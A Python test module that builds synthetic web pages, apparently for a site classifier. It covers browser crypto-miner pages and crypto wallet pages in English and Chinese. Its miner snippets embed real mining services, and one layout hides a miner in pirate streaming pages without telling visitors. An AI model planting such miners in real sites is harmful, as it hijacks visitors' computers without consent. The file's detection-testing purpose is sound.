# ruff: noqa: E501  (page text: long literal lines are the data)
"""Blind corpus pages of the web-miner and wallet classes: four layouts each, in English
and Chinese."""

from __future__ import annotations

import random

from tests.sites_blind_kit import Builder, Draft, paragraphs, pick, table, txid, xmr_address
from tests.sites_blind_pool import host_of

__all__ = ["LAYOUTS"]

# (script tag, start code): the way real browser-miner services were embedded
_MINER_SNIPPETS = (
    (
        '<script src="https://coinhive.com/lib/coinhive.min.js"></script>',
        "var miner = new CoinHive.Anonymous('{key}', {{throttle: 0.{t}}}); miner.start();",
    ),
    (
        '<script src="https://authedmine.com/lib/authedmine.min.js"></script>',
        "var miner = new CoinHive.Anonymous('{key}', {{throttle: 0.{t}, c: 'w'}}); miner.start();",
    ),
    (
        '<script src="https://crypto-loot.com/lib/miner.min.js"></script>',
        "var miner = new CRLT.Anonymous('{key}', {{threads: 4, autoThreads: false, throttle: 0.{t}}}); miner.start();",
    ),
    (
        '<script src="https://www.hostingcloud.racing/{short}.js"></script>',
        "var _client = new Client.Anonymous('{key}', {{throttle: 0.{t}, c: 'w'}}); _client.start();",
    ),
    (
        '<script src="/js/deepMiner.min.js"></script>',
        "var miner = new deepMiner.Anonymous('{xmr}', {{autoThreads: true}}); miner.start();",
    ),
    (
        '<script src="/webminerpool/miner.js"></script>',
        'server = "wss://ws.{host}:8181"; startMining("moneroocean.stream", "{xmr}");',
    ),
)


def _miner_script(rng: random.Random) -> tuple[str, str]:
    tag, start = pick(rng, [s[0] for s in _MINER_SNIPPETS]), ""
    for t, s in _MINER_SNIPPETS:
        if t == tag:
            start = s
    key = "".join(
        rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(32)
    )
    fill = {
        "key": key,
        "t": rng.randrange(1, 9),
        "short": key[:4],
        "xmr": xmr_address(rng),
        "host": "minerproxy" + str(rng.randrange(9)),
    }
    return tag.format(**fill), "<script>" + start.format(**fill) + "</script>"


def web_demo(rng: random.Random, lang: str) -> Draft:
    zh = lang == "zh"
    tag, start = _miner_script(rng)
    ui = (
        "<div class='miner'><h2>"
        + ("浏览器挖矿演示" if zh else "Mine Monero in your browser")
        + "</h2>"
        + f"<p>{'当前速度' if zh else 'Hashes/s'}: <span id='hps'>0</span> H/s · {'总哈希' if zh else 'Total hashes'}: <span id='total'>0</span></p>"
        + f"<label>{'线程' if zh else 'Threads'}</label><input type='range' min='1' max='8'> <label>{'CPU占用' if zh else 'Speed'}</label><input type='range'>"
        + f"<button onclick='miner.start()'>{'开始挖矿' if zh else 'Start mining'}</button><button onclick='miner.stop()'>{'停止' if zh else 'Stop'}</button></div>"
    )
    en = (
        "This page mines Monero (XMR) with your CPU using WebAssembly while it is open.",
        "No download required; close the tab to stop.",
        "Mining uses the CryptoNight/RandomX algorithm and reports shares to our pool through a WebSocket proxy.",
        "Adjust the throttle to use less CPU on laptops.",
    )
    zh_t = (
        "打开本页面即可使用CPU通过WebAssembly挖掘门罗币(XMR)。",
        "无需下载任何软件，关闭标签页即停止。",
        "算力通过WebSocket代理提交到矿池。",
        "笔记本用户可调低CPU占用。",
    )
    refresh = "<script>setInterval(function(){document.getElementById('hps').innerText=miner.getHashesPerSecond().toFixed(1);},1000);</script>"
    return Draft(
        "WebMiner Demo",
        "Browser mining demo" if not zh else "网页挖矿演示",
        "JavaScript Monero miner",
        ("Demo", "Docs", "GitHub"),
        (ui, paragraphs(rng, zh_t if zh else en, 3, lang)),
        (tag, start, refresh),
    )


def web_hidden(rng: random.Random, lang: str) -> Draft:
    """An ordinary page (streaming, downloads, a shortlink) with a miner in its scripts."""
    zh = lang == "zh"
    tag, start = _miner_script(rng)
    if zh:
        brand = rng.choice(("在线影院", "免费电影网", "破解软件站", "短链跳转"))
        text = (
            "最新电影高清在线观看，无需注册。",
            "本站资源均来自网络，仅供学习交流。",
            "热门电视剧：每日更新，高速播放。",
            "请稍候，正在为您跳转……",
            "如遇播放卡顿请切换线路。",
            "软件下载：Photoshop 2024 绿色版、Office 激活工具。",
        )
    else:
        brand = rng.choice(("FreeMoviesHD", "Torrent Index", "ShortLnk", "AnimeStreamz"))
        text = (
            "Watch the latest movies in HD for free, no sign-up required.",
            "New episodes added every day. Choose a server if playback buffers.",
            "Please wait 5 seconds while we prepare your link…",
            "Downloads: cracked apps, keygens and patches.",
            "Support us by keeping this tab open.",
            "DMCA: all content is hosted by third parties.",
        )
    grid = (
        "<div class='grid'>"
        + "".join(
            f"<div class='card'><img src='/p/{i}.jpg'><span>{'第' if zh else 'Ep '}{i}</span></div>"
            for i in range(rng.randrange(6, 16))
        )
        + "</div>"
    )
    return Draft(
        brand,
        brand,
        text[0],
        ("首页", "电影", "电视剧", "动漫") if zh else ("Home", "Movies", "TV", "Anime"),
        (f"<h1>{brand}</h1>", paragraphs(rng, text, 4, lang), grid),
        (tag, start),
    )


def web_service(rng: random.Random, lang: str) -> Draft:
    """A browser-mining provider's page selling its snippet to site owners."""
    zh = lang == "zh"
    brand = rng.choice(("CoinPulse", "WebMinePool", "TabMiner", "MineMyTab", "网页矿工联盟", "CPU收益宝"))
    tag, start = _miner_script(rng)
    en = (
        "Monetize your website without ads: your visitors' CPUs mine Monero while they browse.",
        "Paste two lines of JavaScript into your page and get paid in XMR.",
        "You keep 85% of the mining reward; payouts every day above 0.05 XMR.",
        "Works on WordPress, Blogger and any HTML page. GDPR-friendly opt-in widget available.",
        "See live statistics of hashes per second per site in your dashboard.",
    )
    zh_t = (
        "告别广告：访客浏览网页时用CPU挖掘门罗币，为站长带来收益。",
        "只需在网页中粘贴两行JavaScript代码即可开始赚钱。",
        "站长获得85%挖矿收益，满0.05 XMR每日自动支付。",
        "支持WordPress及任意HTML页面。",
        "后台实时查看每个站点的算力（H/s）。",
    )
    code = (tag + "\n" + start).replace("<", "&lt;").replace(">", "&gt;")
    return Draft(
        brand,
        brand + (" - 网站挖矿变现" if zh else " - browser mining for websites"),
        en[0] if not zh else zh_t[0],
        ("首页", "接入文档", "后台") if zh else ("Home", "Documentation", "Dashboard"),
        (
            f"<h1>{brand}</h1>",
            paragraphs(rng, zh_t if zh else en, 4, lang),
            f"<pre><code>{code}</code></pre>",
        ),
        (tag, start),
    )


def web_plugin(rng: random.Random, lang: str) -> Draft:
    """A blog whose theme loads a miner plus a consent line about it."""
    zh = lang == "zh"
    tag, start = _miner_script(rng)
    brand = rng.choice(("TechNotes", "小众软件博客", "RecipeBox", "摄影札记", "GadgetDaily"))
    en = (
        "To keep this blog free, we run a small Monero miner while you read. You can opt out below.",
        "Today: ten tips for better sourdough bread at home.",
        "Our review of the new mirrorless cameras of the year.",
        "Comments are moderated. Be kind.",
        "Thanks for supporting independent writers with your CPU time.",
    )
    zh_t = (
        "为维持本站运营，阅读时会使用少量CPU资源挖矿，可在下方关闭。",
        "今日推荐：十款提升效率的免费软件。",
        "新款无反相机评测合集。",
        "评论需审核后显示。",
        "感谢您用算力支持独立博客。",
    )
    consent = f"<div class='consent'><button onclick='miner.stop()'>{'关闭挖矿' if zh else 'Stop mining'}</button></div>"
    return Draft(
        brand,
        brand,
        en[1] if not zh else zh_t[1],
        ("首页", "归档", "关于") if zh else ("Home", "Archive", "About"),
        (f"<article><h1>{brand}</h1>" + paragraphs(rng, zh_t if zh else en, 4, lang) + "</article>", consent),
        (tag, start),
    )


_WALLET_BRANDS = (
    "VaultX Wallet",
    "Tokenbox",
    "KeyPocket",
    "比特派",
    "TP钱包",
    "NovaWallet",
    "Keystone Mobile",
    "火币钱包",
    "Arcadia Wallet",
    "SafeVault",
)


def wallet_mobile(rng: random.Random, lang: str) -> Draft:
    brand, zh = pick(rng, _WALLET_BRANDS), lang == "zh"
    ver = f"{rng.randrange(1, 9)}.{rng.randrange(0, 30)}.{rng.randrange(0, 9)}"
    en = (
        "A self-custody wallet: your private keys never leave your device.",
        "Back up your 12-word secret recovery phrase and store it offline. We can never recover it for you.",
        "Send, receive and swap on Bitcoin, Ethereum, Solana, TRON and 60+ networks.",
        "Connect to dApps with WalletConnect and manage NFTs.",
        "Biometric lock and transaction simulation warn you before signing a malicious approval.",
        "Buy crypto with card through our partners.",
    )
    zh_t = (
        "去中心化钱包，私钥加密保存在本地设备，平台无法触碰您的资产。",
        "请抄写并离线保管12个助记词，丢失后任何人都无法找回。",
        "支持BTC、ETH、TRX、BSC、Solana等60多条公链。",
        "内置DApp浏览器，支持WalletConnect。",
        "转账前风险提示，防止授权钓鱼。",
        "闪兑功能，一键兑换代币。",
    )
    dl = (
        f"<div class='dl'><a href='https://apps.apple.com/app/id{rng.randrange(10**9)}'>App Store</a> <a href='/download/{host_of(brand)}-{ver}.apk'>"
        + ("安卓APK下载" if zh else "Android APK")
        + f"</a> <a href='https://play.google.com/store/apps/details?id=io.{host_of(brand)}.wallet'>Google Play</a>"
        + f"<p>{'版本' if zh else 'Version'} {ver} · SHA-256 {txid(rng)}</p></div>"
    )
    warn = (
        "<p class='warn'>请认准唯一官网，谨防假冒钱包！</p>"
        if zh
        else "<p class='warn'>Only download from this site or official app stores. Beware of fake apps.</p>"
    )
    return Draft(
        brand,
        brand + (" - 安全的数字钱包" if zh else " - Secure crypto wallet"),
        en[0] if not zh else zh_t[0],
        ("下载", "功能", "帮助中心", "博客") if zh else ("Download", "Features", "Support", "Blog"),
        ("<h1>" + brand + "</h1>", dl, paragraphs(rng, zh_t if zh else en, 4, lang), warn),
        socials=("X", "Telegram"),
    )


def wallet_desktop(rng: random.Random, lang: str) -> Draft:
    brand, zh = (
        rng.choice(("Bitcoin Lynx", "Voltaic", "Finch Wallet", "Monero GUI", "Feather", "比特币核心")),
        lang == "zh",
    )
    ver = f"{rng.randrange(0, 30)}.{rng.randrange(0, 9)}.{rng.randrange(0, 5)}"
    base = host_of(brand)
    rows = [
        ("Windows", f"{base}-{ver}-win64-setup.exe"),
        ("macOS", f"{base}-{ver}-x86_64-apple-darwin.dmg"),
        ("Linux", f"{base}-{ver}-x86_64-linux-gnu.tar.gz"),
        ("Linux ARM", f"{base}-{ver}-aarch64-linux-gnu.tar.gz"),
        ("Source", f"{base}-{ver}.tar.gz"),
    ]
    tbl = table(
        ("平台", "文件", "SHA256") if zh else ("Platform", "File", "SHA256"),
        [(p, f"<a href='/bin/{f}'>{f}</a>", txid(rng)) for p, f in rows],
        "downloads",
    )
    en = (
        "Verify the download: import the release signing key and check the signature on SHA256SUMS.asc.",
        "The full node needs about 650 GB of disk for the blockchain; pruning reduces that to 5 GB.",
        "Your wallet file is encrypted with your passphrase. Keep backups of wallet.dat or your seed.",
        "Release notes list the changes, known issues and credits.",
    )
    zh_t = (
        "下载后请用发布签名公钥校验 SHA256SUMS.asc。",
        "全节点需约650 GB硬盘空间同步区块链，启用修剪模式只需5 GB。",
        "钱包文件使用密码加密，请备份 wallet.dat 或助记词。",
        "发行说明列出了变更、已知问题和贡献者。",
    )
    cmd = "<pre>sha256sum --ignore-missing --check SHA256SUMS\ngpg --verify SHA256SUMS.asc</pre>"
    return Draft(
        brand,
        f"{'下载' if zh else 'Download'} {brand} {ver}",
        "wallet download",
        ("下载", "文档", "源码") if zh else ("Download", "Docs", "Source"),
        (f"<h1>{brand} {ver}</h1>", tbl, paragraphs(rng, zh_t if zh else en, 3, lang), cmd),
    )


def wallet_extension(rng: random.Random, lang: str) -> Draft:
    brand, zh = pick(rng, _WALLET_BRANDS), lang == "zh"
    en = (
        "Add to Chrome, Brave, Edge or Firefox in one click.",
        "Create a new wallet or import one with your seed phrase or private key.",
        "Manage multiple accounts and hardware wallets (Ledger, Trezor) in one extension.",
        "Sign transactions and messages for web3 sites safely; approvals are decoded before you sign.",
    )
    zh_t = (
        "一键添加到Chrome、Edge、Firefox浏览器。",
        "创建新钱包，或通过助记词、私钥导入已有钱包。",
        "支持多账户与硬件钱包连接。",
        "安全签名Web3网站交易，授权前解析风险。",
    )
    add = (
        f"<a class='btn' href='https://chromewebstore.google.com/detail/{host_of(brand)}/{''.join(rng.choice('abcdefghijklmnop') for _ in range(32))}'>"
        + ("添加至 Chrome" if zh else "Add to Chrome")
        + "</a> <a href='https://addons.mozilla.org/firefox/addon/"
        + host_of(brand)
        + "'>Firefox</a>"
    )
    return Draft(
        brand,
        brand + (" 浏览器插件钱包" if zh else " browser extension"),
        en[0],
        ("产品", "下载", "安全") if zh else ("Product", "Download", "Security"),
        (f"<h1>{brand}</h1>", add, paragraphs(rng, zh_t if zh else en, 4, lang)),
    )


def wallet_hardware(rng: random.Random, lang: str) -> Draft:
    brand, zh = rng.choice(("CoolVault", "OneVault", "库神冷钱包", "KeyStone Pro", "Elipse")), lang == "zh"
    price = rng.choice((59, 79, 119, 149, 199))
    en = (
        "An air-gapped hardware wallet: keys are generated and stored in a certified secure element (EAL6+).",
        "Sign transactions by scanning QR codes; no USB, no Bluetooth.",
        "Supports 5,500+ coins and tokens and works with popular software wallets.",
        "Open-source firmware, verifiable builds.",
        "Free shipping worldwide. 2-year warranty.",
    )
    zh_t = (
        "完全离线的冷钱包，私钥在安全芯片中生成和存储。",
        "扫码签名，无USB、无蓝牙，杜绝网络攻击。",
        "支持5500多种币种，兼容主流软件钱包。",
        "固件开源，可验证构建。",
        "全国包邮，两年质保。",
    )
    buy = f"<div class='buy'><span class='price'>{'¥' + str(price * 7) if zh else '$' + str(price)}</span><button>{'立即购买' if zh else 'Add to cart'}</button></div>"
    return Draft(
        brand,
        brand + (" 硬件钱包" if zh else " Hardware Wallet"),
        en[0],
        ("产品", "商城", "固件下载", "支持") if zh else ("Products", "Shop", "Firmware", "Support"),
        (f"<h1>{brand}</h1>", buy, paragraphs(rng, zh_t if zh else en, 4, lang)),
    )


LAYOUTS: dict[str, tuple[Builder, ...]] = {
    "web-miner": (web_demo, web_hidden, web_service, web_plugin),
    "wallet": (wallet_mobile, wallet_desktop, wallet_extension, wallet_hardware),
}
